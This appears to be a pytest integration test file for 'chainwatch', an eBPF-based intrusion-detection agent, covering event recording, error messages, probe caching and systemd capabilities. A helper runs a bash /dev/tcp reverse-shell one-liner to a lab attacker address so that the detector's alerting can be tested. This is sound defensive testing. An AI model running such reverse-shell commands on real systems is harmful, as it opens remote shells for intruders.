"""The CLI as users run it: record while a shell runs /bin/true 23 times, then replay --dump."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.helpers.live import require_root
from tests.helpers.polling import wait_until

CHAINWATCH = [sys.executable, "-m", "agent"]


def cache_config(directory: Path) -> list[str]:
    """``--config`` arguments keeping the compile cache in ``directory`` (tests never use /var/cache)."""
    config = directory / "chainwatch.toml"
    config.write_text(f'[sensor]\ncache_dir = "{directory / "cache"}"\n')
    return ["--config", str(config)]


def wait_for_line(path: Path, needle: str, timeout: float) -> bool:
    return wait_until(lambda: needle in path.read_text(), timeout=timeout, interval=0.1)


def test_record_then_replay_dump_shows_23_execs(sensorlab, tmp_path) -> None:
    """`chainwatch record` during 23 /bin/true execs, then `replay --dump` shows them with the shell as ppid."""
    recording, log = tmp_path / "x.cw", tmp_path / "record.log"
    with log.open("w") as err:
        agent = subprocess.Popen(
            [*CHAINWATCH, "record", str(recording), *cache_config(tmp_path)], stderr=err, stdout=subprocess.DEVNULL
        )
    try:
        assert wait_for_line(log, '"sensor_ready"', 60), log.read_text()
        shell = int(
            subprocess.run(
                ["bash", "-c", "echo $$; for i in $(seq 23); do /bin/true; done"],
                capture_output=True,
                text=True,
                timeout=20,
                check=True,
            ).stdout.split()[0]
        )
        time.sleep(0.5)
    finally:
        agent.send_signal(signal.SIGINT)
        rc = agent.wait(timeout=30)
    assert rc == 0, log.read_text()
    lines = [json.loads(line) for line in log.read_text().splitlines()]
    assert sum(1 for line in lines if line["event"] == "sensor_ready") == 1
    final = [line for line in lines if line["event"] == "stats" and line["final"]]
    from agent.probes.loader import DROP_REASONS

    assert final and final[0]["kernel_drops"] == dict.fromkeys(DROP_REASONS, 0)

    dump = subprocess.run(
        [*CHAINWATCH, "replay", str(recording), "--dump"], capture_output=True, text=True, timeout=60, check=True
    )
    events = [json.loads(line) for line in dump.stdout.splitlines()]
    trues = [e for e in events if e["type"] == "exec" and e["filename"] == "/bin/true" and e["ppid"] == shell]
    assert len(trues) == 23
    for e in trues:
        assert {"type", "pid", "ppid", "comm", "filename", "args"} <= set(e)


def test_run_refuses_non_root_with_one_sentence(tmp_path) -> None:
    """`chainwatch run` as an unprivileged user exits non-zero with one sentence saying to run as root."""
    require_root("needs root to drop to an unprivileged user")
    proc = subprocess.run(
        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *CHAINWATCH, "run"],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=os.getcwd(),
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])},
    )
    assert proc.returncode != 0
    assert "root" in proc.stderr
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr


def test_run_without_bcc_says_how_to_install_it(tmp_path) -> None:
    """With bcc not importable, `chainwatch run` exits non-zero naming python3-bpfcc, without a traceback."""
    require_root("the root check comes first; this needs root to reach the bcc check")
    shadow = tmp_path / "shadow"
    shadow.mkdir()
    (shadow / "bcc.py").write_text("raise ImportError('bcc hidden by the test')\n")
    root = Path(__file__).resolve().parents[2]
    # An empty cache: the program must be compiled, which is what needs bcc.
    proc = subprocess.run(
        [*CHAINWATCH, "run", *cache_config(tmp_path)],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "PYTHONPATH": f"{shadow}:{root}"},
    )
    assert proc.returncode != 0
    assert "python3-bpfcc" in proc.stderr
    assert "Traceback" not in proc.stderr


def run_until_ready(log: Path, args: list[str]) -> subprocess.Popen[bytes]:
    """`chainwatch run ARGS` with its log in ``log``, once it logged sensor_ready."""
    with log.open("w") as err:
        agent = subprocess.Popen([*CHAINWATCH, "run", *args], stderr=err, stdout=subprocess.DEVNULL)
    if not wait_for_line(log, '"sensor_ready"', 60):
        agent.kill()
        agent.wait(timeout=30)
        pytest.fail(log.read_text())
    return agent


def ready_line(log: Path) -> dict[str, object]:
    line: dict[str, object] = next(
        entry for entry in map(json.loads, log.read_text().splitlines()) if entry["event"] == "sensor_ready"
    )
    return line


def reverse_shell_alerts(netlab, alerts: Path, port: int) -> list[dict[str, object]]:  # type: ignore[no-untyped-def]
    """A bash /dev/tcp reverse shell in the lab to ``port``; the alert lines that appear in ``alerts``."""
    listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))\nexit\n", duration=10)
    netlab.run(
        netlab.victim_ns, ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/{port} 0>&1; exit 0"], timeout=15
    )
    assert b"cw-42" in listener.wait(timeout=15)
    wait_until(lambda: alerts.exists() and alerts.read_text().strip(), timeout=10, interval=0.1)
    time.sleep(1)
    return [json.loads(line) for line in alerts.read_text().splitlines()] if alerts.exists() else []


def stop(agent: subprocess.Popen[bytes], log: Path) -> None:
    agent.send_signal(signal.SIGTERM)
    rc = agent.wait(timeout=30)
    assert rc == 0, log.read_text()


def test_run_writes_one_alert_for_a_reverse_shell(sensorlab, netlab, tmp_path) -> None:
    """`chainwatch run --alerts FILE` turns a bash /dev/tcp reverse shell in the lab into one incident in FILE."""
    alerts, log = tmp_path / "alerts.jsonl", tmp_path / "run.log"
    port = netlab.port()
    agent = run_until_ready(log, ["--alerts", str(alerts), *cache_config(tmp_path)])
    try:
        lines = reverse_shell_alerts(netlab, alerts, port)
    finally:
        stop(agent, log)
    assert len({a["chainwatch"]["incident"]["id"] for a in lines}) == 1, lines
    assert lines[-1]["destination"] == {"ip": netlab.attacker_ip4, "port": port}
    assert lines[-1]["rule"]["ruleset"] == "chainwatch"


def test_second_run_loads_the_cached_probes_and_still_alerts(sensorlab, netlab, tmp_path) -> None:
    """Two runs with one cache directory: the first compiles and caches (0700 directory, 0600 entry), the
    second loads the same probes from the cache without compiling and catches the same reverse shell."""
    config, port = cache_config(tmp_path), netlab.port()
    first_log, second_log, alerts = tmp_path / "first.log", tmp_path / "second.log", tmp_path / "alerts.jsonl"
    stop(run_until_ready(first_log, ["--alerts", str(tmp_path / "unused.jsonl"), *config]), first_log)
    first = ready_line(first_log)
    assert first["compile"] == "compiled" and "compile_s" in first, first
    entries = os.listdir(tmp_path / "cache")
    assert len(entries) == 1 and entries[0].endswith(".cwbpf"), entries
    assert os.stat(tmp_path / "cache").st_mode & 0o777 == 0o700
    assert os.stat(tmp_path / "cache" / entries[0]).st_mode & 0o777 == 0o600
    agent = run_until_ready(second_log, ["--alerts", str(alerts), *config])
    try:
        second = ready_line(second_log)
        assert second["compile"] == "cached" and "compile_s" not in second, second
        assert second["probes"] == first["probes"]
        # The agent sees the whole host: keep this lab's shell (other tests' labs use other ports).
        lines = [
            a for a in reverse_shell_alerts(netlab, alerts, port) if (a.get("destination") or {}).get("port") == port
        ]
    finally:
        stop(agent, second_log)
    assert len({a["chainwatch"]["incident"]["id"] for a in lines}) == 1, lines
    assert lines[-1]["destination"] == {"ip": netlab.attacker_ip4, "port": port}
    assert lines[-1]["rule"]["ruleset"] == "chainwatch"


UNIT = Path(__file__).resolve().parents[2] / "packaging" / "systemd" / "chainwatch.service"


def unit_capabilities() -> list[str]:
    """The unit's CapabilityBoundingSet, as setpriv names them (bpf, perfmon...)."""
    lines = [line for line in UNIT.read_text().splitlines() if line.startswith("CapabilityBoundingSet=")]
    assert len(lines) == 1, lines
    caps = lines[0].split("=", 1)[1].split()
    assert caps and all(cap.startswith("CAP_") for cap in caps), caps
    return [cap[len("CAP_") :].lower() for cap in caps]


def bounded(caps: list[str], argv: list[str]) -> list[str]:
    return ["setpriv", f"--bounding-set=-all,{','.join('+' + cap for cap in caps)}", *argv]


def test_the_units_capabilities_are_enough_and_each_is_needed_to_load(sensorlab, netlab, tmp_path) -> None:
    """With exactly the unit's CapabilityBoundingSet the agent compiles, loads and catches a lab reverse shell,
    and a second start loads from the cache; without CAP_BPF or CAP_PERFMON it does not start (no traceback)."""
    caps = unit_capabilities()
    assert {"bpf", "perfmon"} <= set(caps), caps
    config, port = cache_config(tmp_path), netlab.port()
    alerts, log = tmp_path / "alerts.jsonl", tmp_path / "run.log"
    with log.open("w") as err:
        agent = subprocess.Popen(
            bounded(caps, [*CHAINWATCH, "run", "--alerts", str(alerts), *config]), stderr=err, stdout=subprocess.DEVNULL
        )
    try:
        assert wait_for_line(log, '"sensor_ready"', 60), log.read_text()
        status = Path(f"/proc/{agent.pid}/status").read_text()
        bounding = int(next(line for line in status.splitlines() if line.startswith("CapBnd:")).split()[1], 16)
        assert bounding.bit_count() == len(caps), status
        lines = reverse_shell_alerts(netlab, alerts, port)
    finally:
        stop(agent, log)
    assert lines and lines[-1]["destination"] == {"ip": netlab.attacker_ip4, "port": port}, lines
    assert ready_line(log)["compile"] == "compiled"  # the first start compiled (in its child, with these caps)
    warm_log = tmp_path / "warm.log"
    with warm_log.open("w") as err:
        warm = subprocess.Popen(
            bounded(caps, [*CHAINWATCH, "run", "--alerts", str(alerts), *config]), stderr=err, stdout=subprocess.DEVNULL
        )
    try:
        assert wait_for_line(warm_log, '"sensor_ready"', 60), warm_log.read_text()
        assert ready_line(warm_log)["compile"] == "cached"
    finally:
        stop(warm, warm_log)
    for missing in ("bpf", "perfmon"):
        fewer = [cap for cap in caps if cap != missing]
        done = subprocess.run(
            bounded(fewer, [*CHAINWATCH, "run", "--alerts", str(tmp_path / "none.jsonl"), *config]),
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert done.returncode != 0, (missing, done.stderr[-2000:])
        assert "Traceback" not in done.stderr, (missing, done.stderr[-3000:])
        assert "CAP_BPF and CAP_PERFMON" in done.stderr or "Operation not permitted" in done.stderr, done.stderr
